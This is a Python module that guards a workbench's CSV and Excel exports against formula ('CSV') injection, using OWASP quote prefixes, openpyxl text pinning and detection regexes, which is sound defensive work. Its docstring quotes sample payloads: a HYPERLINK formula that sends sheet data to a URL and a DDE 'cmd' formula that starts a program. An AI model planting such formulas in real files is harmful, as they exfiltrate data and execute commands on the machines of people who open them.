"""Cells safe for spreadsheets: the one place that decides how text from the data is written to the
CSV and Excel files the workbench gives users, so that no cell runs as a formula ("CSV injection").

Text from the data (a training programme's name, a provider, a region, a competency's name) may
begin with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return. A spreadsheet that opens such a
cell reads it as a formula: ``=HYPERLINK("http://…"&A1, "…")`` sends the sheet's contents away,
``=cmd|' /C calc'!A0`` starts a program.

- CSV (``spreadsheet_safe``): the OWASP rule. A text cell that begins with one of those characters
  gets a single quote in front (``'=1+1``), which a spreadsheet shows as text. Numbers are never
  touched: numeric columns are not text, and a text cell that is just a number (``-5``,
  ``+0.25``, ``-1,5``, ``-1e3``) is left as it is, because a spreadsheet reads it as that number and
  nothing else; ``-5 + 1``, ``-`` or ``--5`` are not plain numbers and are quoted. A spreadsheet
  may also start a new cell inside a text. One set to Indonesian (or another language with a
  decimal comma) splits a CSV line at ``;``, which the CSV writer does not put in quotes, and
  then sees the writer's quotes only where they open one of its cells, so that a line break inside
  a quoted text may end its row: a dangerous character just after a ``;`` or a line break inside a
  text (after any quotes and spaces) gets the quote too (``Palu;'=1+1``). A lone carriage return,
  which the CSV writer leaves unquoted and every reader takes for the end of a row, becomes a line
  feed, so that the cell is written in quotes. Column labels and index values are text cells as
  well and follow the same rules.
- Excel (``write_cell``): the value is kept as it is but stored as text, never as a formula (or an
  error code such as ``#N/A``), and a text that would start a formula is marked "quote prefix", so
  that editing the cell in Excel does not turn it into one either. Characters a worksheet cannot
  hold (control characters other than tab, line feed and carriage return) become U+FFFD instead of
  making the whole workbook fail. Only the workbook's own formulas (the budget's products and sums)
  are written as formulas, by assigning them to ``cell.value`` directly.

openpyxl decides in ``Cell._bind_value`` (the ``Cell.value`` setter): a ``str`` longer than one
character that starts with ``=`` becomes data type ``"f"`` (formula), one of its ``ERROR_CODES``
becomes ``"e"``; setting ``cell.data_type = "s"`` afterwards keeps the value as an inline string.

On data without such text nothing changes: ``spreadsheet_safe`` returns the frame it was given, and
``write_cell`` writes what ``ws.cell(row, column, value)`` wrote, so outputs stay byte-identical.
"""

from __future__ import annotations

import re

import pandas as pd
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE, WriteOnlyCell

DANGEROUS_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d[\d.,]*|[.,]\d[\d.,]*)(?:[eE][+-]?\d+)?")
_LONE_CR = re.compile(r"\r(?!\n)")
_INNER_CELL = re.compile(r"(?<=[;\n])[^;\r\n]*")  # where a reader splitting at ';' may start a cell


def starts_formula(text) -> bool:
    """Whether a spreadsheet could read this text cell as a formula: it begins with ``=``, ``+``,
    ``-``, ``@``, tab or carriage return and is not just a number. False for anything not a str."""
    return (isinstance(text, str) and text.startswith(DANGEROUS_PREFIXES)
            and _PLAIN_NUMBER.fullmatch(text) is None)


def csv_text(value):
    """A CSV cell's value with the OWASP quote where a spreadsheet would read a formula (see the
    module docstring); anything that is not a str (numbers, missing values) is returned unchanged."""
    if not isinstance(value, str):
        return value
    quote = starts_formula(value)
    if "\r" in value:
        value = _LONE_CR.sub("\n", value)
    if ";" in value or "\n" in value:
        value = _INNER_CELL.sub(_inner_cell, value)
    return QUOTE + value if quote else value


def _inner_cell(m: re.Match) -> str:
    part = m.group()
    return QUOTE + part if starts_formula(part.lstrip('" ')) else part


def _needs_csv_quote(value) -> bool:
    return isinstance(value, str) and csv_text(value) != value


# what a text must hold for ``csv_text`` to change it: a dangerous first character, a carriage return
# (lone ones are rewritten), or a ';' or line feed (after which a reader may start a cell)
_MAY_CHANGE = re.compile(r"^[=+\-@\t\r]|[\r;\n]")


def csv_may_change(values: pd.Series) -> pd.Series:
    """The values ``csv_text`` may change, found by one vectorised regular expression (a Python call per
    cell was a tenth of notebook 03's time at 100,000 employees); none of the others can change. Values
    that are not text (numbers in an object column) are passed on to the per-cell check."""
    try:
        hit = values.str.contains(_MAY_CHANGE, regex=True)
    except (AttributeError, TypeError):  # not a column of text the .str methods take
        return values
    return values[hit.fillna(True).astype(bool)]


def _safe_series(s: pd.Series) -> pd.Series:
    if not _is_text(s.dtype):
        return s
    values = pd.Series(s.cat.categories) if isinstance(s.dtype, pd.CategoricalDtype) else s
    if not any(_needs_csv_quote(v) for v in csv_may_change(values)):
        return s
    if isinstance(s.dtype, pd.CategoricalDtype):
        s = s.astype(object)
    return pd.Series([csv_text(v) for v in s.to_numpy(dtype=object)], index=s.index, name=s.name, dtype=s.dtype)


def _is_text(dtype) -> bool:
    return (pd.api.types.is_object_dtype(dtype) or pd.api.types.is_string_dtype(dtype)
            or isinstance(dtype, pd.CategoricalDtype))


def _safe_labels(index: pd.Index) -> pd.Index:
    if isinstance(index, pd.MultiIndex):
        if not any(_needs_csv_quote(v) for level in index.levels for v in level):
            return index
        return pd.MultiIndex.from_tuples([tuple(csv_text(v) for v in t) for t in index], names=index.names)
    if not _is_text(index.dtype):
        return index
    values = index.categories if isinstance(index, pd.CategoricalIndex) else index
    if not any(_needs_csv_quote(v) for v in values):
        return index
    return pd.Index([csv_text(v) for v in index], name=index.name, dtype=object)


def spreadsheet_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """The frame as it may be written to a CSV file for users: every text cell, column label and
    index value that a spreadsheet would read as a formula gets the OWASP quote (``csv_text``).

    Numeric, boolean and date columns are left alone, and so are numbers held in text columns.
    Returns ``frame`` itself when no cell needs a quote (so that normal outputs do not change by
    one byte), otherwise a changed copy; the frame given is never changed."""
    given = [frame.iloc[:, j] for j in range(frame.shape[1])]
    safe = [_safe_series(s) for s in given]
    changed = [j for j, (a, b) in enumerate(zip(given, safe)) if a is not b]
    columns, index = _safe_labels(frame.columns), _safe_labels(frame.index)
    if not changed and columns is frame.columns and index is frame.index:
        return frame
    out = frame.copy()
    for j in changed:
        out.isetitem(j, safe[j])
    out.columns, out.index = columns, index
    return out


def _clean(value: str) -> str:
    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)


def keep_as_text(cell):
    """Pin an openpyxl cell holding a str as text (data type ``"s"``), never a formula or an error
    code, with the quote prefix where Excel would read a formula on editing; returns the cell."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if starts_formula(cell.value):
            cell.quotePrefix = True
    return cell


def write_cell(ws, row: int, column: int, value=None):
    """``ws.cell(row, column, value)`` for a value from the data: a str is written as text (see
    ``keep_as_text``); returns the cell, for its format and font. Use it for every cell but the
    workbook's own formulas."""
    cell = ws.cell(row=row, column=column)
    if value is not None:
        cell.value = _clean(value) if isinstance(value, str) else value
        keep_as_text(cell)
    return cell


def becomes_formula(value) -> bool:
    """Whether openpyxl, given this value, would store it as a formula or an error code (what
    ``Cell._bind_value`` does with a str) rather than as the text it is."""
    return isinstance(value, str) and ((len(value) > 1 and value.startswith("=")) or value in ERROR_CODES)


def text_cell(ws, value: str):
    """A write-only worksheet's cell holding ``value`` as text, for ``ws.append`` (write-only
    sheets have no ``ws.cell``): the value is kept as it is, with data type ``"s"``. No quote
    prefix: ``append`` reuses a passed cell for the rest of its row, and a style would carry over."""
    cell = WriteOnlyCell(ws, value=value)
    cell.data_type = "s"
    return cell
